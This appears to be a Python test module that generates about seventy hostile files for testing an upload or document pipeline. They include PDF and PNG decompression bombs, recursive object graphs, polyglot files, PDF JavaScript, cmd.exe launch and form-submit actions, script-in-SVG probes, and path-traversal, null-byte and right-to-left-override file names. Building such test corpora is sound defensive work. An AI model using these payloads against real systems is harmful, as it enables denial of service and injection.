"""Sixty files that somebody might send in order to break what opens them, or whoever opens what comes of them. Each is made anew by code."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.algo.leaks.material import picture_bytes, plain, png_chunk, saved

OFFICE = "[Content_Types].xml"


def raw_pdf(*objects, trailer=b"/Root 1 0 R"):
    """A document of the objects as they are, numbered from one; the first is the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, held in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, held)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out) + b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)


CATALOGUE, TREE, PAGE = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] %s >>"


def stream(data, entries=b""):
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def page_with(entries=b"", *more):
    return raw_pdf(CATALOGUE, TREE, PAGE % entries, *more)


def zeros(megabytes, before=b"", after=b""):
    """A deflated stream that unfolds to so many megabytes of blanks."""
    packer = zlib.compressobj(9)
    parts = [packer.compress(before)]
    parts += [packer.compress(b" " * 1_000_000) for _ in range(megabytes)]
    return b"".join([*parts, packer.compress(after), packer.flush()])


def content_bomb():
    return page_with(b"/Contents 4 0 R", stream(zeros(400), b"/Filter /FlateDecode"))


def nested_bomb():
    return page_with(b"/Contents 4 0 R", stream(zlib.compress(zlib.compress(zeros(350)), 9), b"/Filter [/FlateDecode /FlateDecode /FlateDecode]"))


def many_filters():
    return page_with(b"/Contents 4 0 R", stream(b"00>" * 30, b"/Filter [" + b"/ASCIIHexDecode " * 40 + b"]"))


def run_length_bomb():
    return page_with(b"/Contents 4 0 R", stream(zlib.compress(b"\x81 " * 4_000_000, 9), b"/Filter [/FlateDecode /RunLengthDecode]"))


def instruction_flood():
    packed = zlib.compress(b"0 0 m 9 9 l S " * 4_000_000, 9)
    return page_with(b"/Contents 4 0 R", stream(packed, b"/Filter /FlateDecode"))


def image_entries(width, height, more=b"/ColorSpace /DeviceRGB /BitsPerComponent 8"):
    return b"/Type /XObject /Subtype /Image /Width %d /Height %d %s /Filter /FlateDecode" % (width, height, more)


def picture_page(data, entries):
    return page_with(b"/Resources << /XObject << /P 4 0 R >> >> /Contents 5 0 R", stream(data, entries), stream(b"/P Do"))


def picture_bomb():
    return picture_page(zeros(140), image_entries(7000, 7000))


def pixel_flood_in_a_pdf():
    return picture_page(zlib.compress(b"\0"), image_entries(60_000, 60_000))


def many_pictures():
    names = b" ".join(b"/P%d %d 0 R" % (number, number + 5) for number in range(60))
    draws = b" ".join(b"/P%d Do" % number for number in range(60))
    body = stream(zeros(1), image_entries(6000, 6000, b"/ColorSpace /DeviceGray /BitsPerComponent 8"))
    return page_with(b"/Resources << /XObject << " + names + b" >> >> /Contents 4 0 R", stream(draws), b"null", *[body] * 60)


def negative_picture():
    return picture_page(zlib.compress(b"abc"), image_entries(-1, 10**18))


def self_drawing():
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /D 4 0 R >> >>"
    return page_with(b"/Resources << /XObject << /D 4 0 R >> >> /Contents 5 0 R", stream(b"/D Do /D Do", form), stream(b"/D Do"))


def laughing_drawings():
    """Thirty drawings, each of which draws the next ten times."""
    held = []
    for number in range(30):
        form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /D %d 0 R >> >>" % (number + 6)
        held.append(stream(b"/D Do " * 10, form))
    return page_with(b"/Resources << /XObject << /D 5 0 R >> >> /Contents 4 0 R", stream(b"/D Do"), *held, stream(b"0 0 9 9 re f", b"/Subtype /Form /BBox [0 0 9 9]"))


def page_tree_loop():
    return raw_pdf(CATALOGUE, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>")


def laughing_pages():
    """A tree of pages in which every node holds the next one ten times: ten to the twelfth pages."""
    nodes = [b"<< /Type /Pages /Count 1 /Kids [" + b"%d 0 R " % (number + 3) * 10 + b"] >>" for number in range(12)]
    return raw_pdf(CATALOGUE, *nodes, PAGE % b"")


def page_flood():
    kids = b"3 0 R " * 100_000
    return raw_pdf(CATALOGUE, b"<< /Type /Pages /Count 100000 /Kids [" + kids + b"] >>", PAGE % b"")


def parent_loop():
    return raw_pdf(CATALOGUE, b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 2 0 R >>", b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>", stream(b"BT ET"))


def too_many_pages():
    return saved(plain(401))


def lying_count():
    return raw_pdf(CATALOGUE, b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>", PAGE % b"")


def xref_loop():
    data = raw_pdf(CATALOGUE, TREE, PAGE % b"")
    start = data.rindex(b"startxref")
    place = data[start + 9 :].split()[0]
    return data[:start].replace(b"/Root", b"/Prev " + place + b" /Root") + data[start:]


def xref_elsewhere():
    data = raw_pdf(CATALOGUE, TREE, PAGE % b"")
    return data[: data.rindex(b"startxref")] + b"startxref\n99999999999999\n%%EOF\n"


def xref_stream_lies():
    body = stream(b"\1\0\0\0\0" * 4, b"/Type /XRef /Size 2000000000 /W [1 3 1] /Root 1 0 R /Index [0 2000000000]")
    data = b"%PDF-1.7\n1 0 obj\n" + CATALOGUE + b"\nendobj\n"
    return data + b"9 0 obj\n" + body + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(data)


def object_flood():
    return raw_pdf(CATALOGUE, TREE, PAGE % b"", *[b"1"] * 300_000)


def object_stream_of_itself():
    body = stream(b"4 0 5 2 1 2", b"/Type /ObjStm /N 2 /First 8 /Extends 4 0 R")
    return page_with(b"/Contents 4 0 R", body)


def deep_arrays():
    return page_with(b"/Contents " + b"[" * 100_000 + b"]" * 100_000)


def deep_dictionaries():
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /A " + b"<</A " * 50_000 + b"1" + b">>" * 50_000 + b">>", TREE, PAGE % b"")


def length_of_itself():
    return page_with(b"/Contents 4 0 R", b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream")


def reference_loop():
    return page_with(b"/Contents 4 0 R /Resources 5 0 R", b"[4 0 R 5 0 R]", b"<< /Font 6 0 R >>", b"7 0 R", b"6 0 R")


def operand_flood():
    return page_with(b"/Contents 4 0 R", stream(zlib.compress(b"1 " * 8_000_000 + b"re", 9), b"/Filter /FlateDecode"))


def structure_loop():
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /StructTreeRoot 4 0 R /MarkInfo << /Marked true >> >>", TREE, PAGE % b"",
        b"<< /Type /StructTreeRoot /K 5 0 R /RoleMap << /A /B /B /A >> >>", b"<< /S /A /K [5 0 R 5 0 R 4 0 R 0] /Pg 3 0 R >>",
    )  # fmt: skip


def font_of_nonsense():
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FirstChar 0 /LastChar 999999999 /Widths [1] /FontDescriptor 6 0 R >>"
    descriptor = b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 7 0 R >>"
    program = stream(b"\0\1\0\0\xff\xff" + b"\xff" * 200)
    return page_with(b"/Resources << /Font << /F 5 0 R >> >> /Contents 4 0 R", stream(b"BT /F 9 Tf (a) Tj ET"), font, descriptor, program)


def compact_font_of_nonsense():
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /X /FontDescriptor 6 0 R >>"
    descriptor = b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile3 7 0 R >>"
    program = stream(b"\1\0\4\1" + b"\xff\xff\4" + b"\xff" * 400, b"/Subtype /Type1C")
    return page_with(b"/Resources << /Font << /F 5 0 R >> >> /Contents 4 0 R", stream(b"BT /F 9 Tf (a) Tj ET"), font, descriptor, program)


def function_loop():
    colours = b"/Resources << /ColorSpace << /C [/Separation /X /DeviceRGB 5 0 R] >> >> /Contents 4 0 R"
    return page_with(colours, stream(b"/C cs 1 sc 0 0 9 9 re f"), b"<< /FunctionType 3 /Domain [0 1] /Functions [5 0 R 5 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>")


def _with(alter):
    pdf = plain()
    alter(pdf)
    return saved(pdf)


def _action(**action):
    return lambda: _with(lambda pdf: setattr(pdf.Root, "OpenAction", Dictionary(**action)))


def _on_page(subtype, **keys):
    def alter(pdf):
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([0, 0, 99, 99]), **keys))])

    return lambda: _with(alter)


def dynamic_form():
    return _with(lambda pdf: setattr(pdf.Root, "AcroForm", Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"))))


def encrypted(user):
    return lambda: saved(plain(), encryption=pikepdf.Encryption(owner="omistaja", user=user))


def package(**parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def overlapping_zip():
    """A package whose directory names the same bytes a thousand times."""
    one = package(a=b"\0" * 1000)
    start = one.index(b"PK\1\2")
    entry, end = one[start : one.index(b"PK\5\6")], one[one.index(b"PK\5\6") :]
    return one[:start] + entry * 1000 + end[:8] + struct.pack("<HHII", 1000, 1000, len(entry) * 1000, start) + end[20:]


def document():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(OFFICE, "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def pdf_and_zip():
    return saved(plain()) + package(a=b"hei")


def zip_within_a_pdf():
    """A package in a stream of the document, whose comment spans the rest of it."""
    inner = package(a=b"hei")
    data = page_with(b"/Contents 4 0 R", stream(inner))
    end = data.index(b"PK\5\6")
    moved = data.index(b"PK\3\4")
    directory = struct.pack("<I", int.from_bytes(inner[inner.index(b"PK\5\6") + 16 : inner.index(b"PK\5\6") + 20], "little") + moved)
    return data[: end + 16] + directory + struct.pack("<H", len(data) - end - 22) + data[end + 22 :]


def jpeg_with_pdf():
    data = picture_bytes()
    body = saved(plain())[:60_000]
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(body) + 2) + body + data[2:]


def png_with_page():
    data = picture_bytes("PNG")
    return data[:33] + png_chunk(b"tEXt", b"a\0<html><script>alert(1)</script>") + data[33:]


def png_bomb(width, height, mode=2):
    """A picture of one colour that unfolds to width times height pixels."""
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + width * {0: 1, 2: 3, 6: 4}[mode])
    body = b"".join([packer.compress(row) for _ in range(height)] + [packer.flush()])
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, mode, 0, 0, 0)) + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")


def png_that_lies():
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 2**31 - 1, 2**31 - 1, 8, 6, 0, 0, 0)) + png_chunk(b"IDAT", zlib.compress(b"\0")) + png_chunk(b"IEND", b"")


def text_bomb():
    data = picture_bytes("PNG")
    return data[:33] + png_chunk(b"zTXt", b"a\0\0" + zeros(60)) * 30 + data[33:]


def profile_bomb():
    data = picture_bytes("PNG")
    return data[:33] + png_chunk(b"iCCP", b"a\0\0" + zeros(200)) + data[33:]


def frame_flood():
    out = io.BytesIO()
    frames = [Image.new("RGB", (64, 64), (number % 256, 0, 0)) for number in range(800)]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def jpeg_that_lies():
    data = bytearray(picture_bytes())
    place = data.index(b"\xff\xc0")
    data[place + 5 : place + 9] = struct.pack(">HH", 65_535, 65_535)
    return bytes(data)


def jpeg_of_many_scans():
    data = picture_bytes(progressive=True, size=(1024, 1024))
    start = data.rindex(b"\xff\xda")
    return data[:start] + data[start:-2] * 400 + data[-2:]


def exif_loop():
    body = b"Exif\0\0II*\0\x08\0\0\0\1\0\x69\x87\4\0\1\0\0\0\x08\0\0\0\x08\0\0\0"
    data = picture_bytes()
    return data[:2] + b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body + data[2:]


def motion_photo():
    return picture_bytes() + b"\0\0\0\x18ftypmp42" + b"\0" * 4000


SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
FILMS = b"\0\0\0\x18ftypisom\0\0\2\0isomiso2" + b"\0" * 1000

HOSTILE = {  # what it is: (how it is made, the name that it comes under)
    "content that unfolds to 400 MB": (content_bomb, "a.pdf"),
    "a bomb within a bomb": (nested_bomb, "a.pdf"),
    "forty filters": (many_filters, "a.pdf"),
    "a run of lengths": (run_length_bomb, "a.pdf"),
    "twelve million instructions": (instruction_flood, "a.pdf"),
    "eight million operands": (operand_flood, "a.pdf"),
    "a picture that unfolds": (picture_bomb, "a.pdf"),
    "3,600 megapixels in a page": (pixel_flood_in_a_pdf, "a.pdf"),
    "sixty large pictures": (many_pictures, "a.pdf"),
    "a picture of negative size": (negative_picture, "a.pdf"),
    "a drawing of itself": (self_drawing, "a.pdf"),
    "drawings ten to the thirtieth": (laughing_drawings, "a.pdf"),
    "a loop of pages": (page_tree_loop, "a.pdf"),
    "pages ten to the twelfth": (laughing_pages, "a.pdf"),
    "100,000 pages": (page_flood, "a.pdf"),
    "401 pages": (too_many_pages, "a.pdf"),
    "a count that lies": (lying_count, "a.pdf"),
    "a loop of parents": (parent_loop, "a.pdf"),
    "a looping xref": (xref_loop, "a.pdf"),
    "an xref that is elsewhere": (xref_elsewhere, "a.pdf"),
    "an xref of two thousand million": (xref_stream_lies, "a.pdf"),
    "300,000 objects": (object_flood, "a.pdf"),
    "objects within themselves": (object_stream_of_itself, "a.pdf"),
    "arrays 100,000 deep": (deep_arrays, "a.pdf"),
    "dictionaries 50,000 deep": (deep_dictionaries, "a.pdf"),
    "a length that is itself": (length_of_itself, "a.pdf"),
    "references in a ring": (reference_loop, "a.pdf"),
    "a loop of structure": (structure_loop, "a.pdf"),
    "a font of nonsense": (font_of_nonsense, "a.pdf"),
    "a compact font of nonsense": (compact_font_of_nonsense, "a.pdf"),
    "a function of itself": (function_loop, "a.pdf"),
    "JavaScript": (_action(S=Name.JavaScript, JS=String("app.alert(1)")), "a.pdf"),
    "a program to launch": (_action(S=Name.Launch, F=String("cmd.exe")), "a.pdf"),
    "a page elsewhere": (_action(S=Name.GoToR, F=String("\\\\palvelin\\jako")), "a.pdf"),
    "an address": (_on_page("Link", A=Dictionary(S=Name.URI, URI=String("https://kanarialintu.invalid/"))), "a.pdf"),
    "a button that sends": (_on_page("Screen", A=Dictionary(S=Name.SubmitForm, F=String("https://kanarialintu.invalid/"))), "a.pdf"),
    "rich media": (_on_page("RichMedia", RichMediaContent=Dictionary()), "a.pdf"),
    "a form drawn by a program": (dynamic_form, "a.pdf"),
    "encrypted": (encrypted("salasana"), "a.pdf"),
    "encrypted for its owner": (encrypted(""), "a.pdf"),
    "cut off": (lambda: saved(plain(20))[:-200], "a.pdf"),
    "the head alone": (lambda: b"%PDF-1.7\n%%EOF", "a.pdf"),
    "noise": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400 + b"%%EOF", "a.pdf"),
    "empty": (lambda: b"", "a.pdf"),
    "over 20 MB": (lambda: saved(plain()) + b"\0" * 20 * 1024 * 1024, "a.pdf"),
    "bytes before the head": (lambda: b"MZ\0\0" + saved(plain()), "a.pdf"),
    "bytes after the end": (lambda: saved(plain()) + b"\0" * 50_000, "a.pdf"),
    "an overlapping zip": (overlapping_zip, "a.pdf"),
    "an office file": (document, "a.docx"),
    "an office file as PDF": (document, "a.pdf"),
    "PDF and zip": (pdf_and_zip, "a.pdf"),
    "zip within a PDF": (zip_within_a_pdf, "a.pdf"),
    "JPEG with a PDF": (jpeg_with_pdf, "a.jpg"),
    "PNG with a web page": (png_with_page, "a.png"),
    "JPEG and film": (motion_photo, "a.jpg"),
    "SVG": (lambda: SVG, "a.svg"),
    "SVG as PNG": (lambda: b"<?xml version='1.0'?>\n" + SVG, "a.png"),
    "film": (lambda: FILMS, "a.mp4"),
    "144 megapixels": (lambda: png_bomb(12_000, 12_000, 0), "a.png"),
    "49 megapixels with transparency": (lambda: png_bomb(7_000, 7_000, 6), "a.png"),
    "a picture that lies": (png_that_lies, "a.png"),
    "texts that unfold": (text_bomb, "a.png"),
    "a profile that unfolds": (profile_bomb, "a.png"),
    "800 frames": (frame_flood, "a.png"),
    "a JPEG that lies": (jpeg_that_lies, "a.jpg"),
    "400 scans": (jpeg_of_many_scans, "a.jpg"),
    "a loop of EXIF": (exif_loop, "a.jpg"),
    "PNG under another name": (lambda: picture_bytes("PNG"), "a.pdf"),
    "a name that is a path": (lambda: saved(plain()), "../../../etc/passwd"),
    "a name with a zero": (lambda: saved(plain()), "a.exe\0.pdf"),
    "a name turned round": (lambda: saved(plain()), "a\u202efdp.exe"),
}  # fmt: skip
